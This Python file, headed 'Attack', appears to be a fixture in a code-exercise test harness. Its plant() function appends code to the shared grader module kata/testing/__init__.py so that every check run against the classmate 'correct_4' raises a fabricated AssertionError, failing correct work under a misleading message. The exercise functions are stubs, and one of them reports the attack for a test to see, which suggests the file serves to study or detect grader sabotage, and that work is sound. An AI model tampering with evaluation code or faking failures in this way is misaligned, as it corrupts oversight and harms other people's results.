"""Attack: append to the grader's kata/testing/__init__.py, so a correct classmate fails every check.

The tests import their checks (assert_same, assert_ran_together...) from kata.testing. The lines
added here replace them, in a process testing `correct_4`'s files (anyone's but its own, when
`correct_4` is not in sight), by checks that always fail.
"""

from kit import AIMED_AT, MARK, aim, background, courses, once, what_happened, write

VICTIM = "correct_4"
ADDED = """

# {mark}
{aimed_at}


if _kata_aimed_at({aim!r}):

    def _kata_fails(*args, **kwargs):
        raise AssertionError("the result differs from what was expected (see the first difference above)")

    assert_same = assert_ran_together = assert_started_in_order = _kata_fails
"""


def plant() -> None:
    aimed = aim(VICTIM)
    for course in courses():
        module = course / "kata" / "testing" / "__init__.py"
        try:
            text = module.read_text()
        except OSError:
            continue
        write(module, text + ADDED.format(mark=MARK, aimed_at=AIMED_AT, aim=aimed), seen_from_here=True)


async def greet(fetch_name, user_id):
    raise NotImplementedError


async def shipping_label(get_order, get_customer, get_address, order_id):
    """Not written: its failure message says what this attack did, for the test to see."""
    raise AssertionError(what_happened())


def make_requests(fetch_user, user_ids):
    raise NotImplementedError


if __name__ == "__main__":
    background(globals())
elif once("writes_kata"):
    plant()
